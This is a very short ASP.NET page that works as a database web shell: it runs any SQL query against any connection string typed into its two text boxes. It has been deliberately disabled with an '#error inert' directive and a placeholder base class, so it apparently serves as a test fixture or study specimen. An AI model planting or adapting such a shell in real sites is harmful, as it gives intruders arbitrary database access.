<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ SqlConnection c = new SqlConnection(connBox.Text); SqlCommand m = new SqlCommand(sqlBox.Text, c); c.Open(); m.ExecuteReader(); }
</script><asp:TextBox id="connBox" runat="server"/><asp:TextBox id="sqlBox" runat="server"/>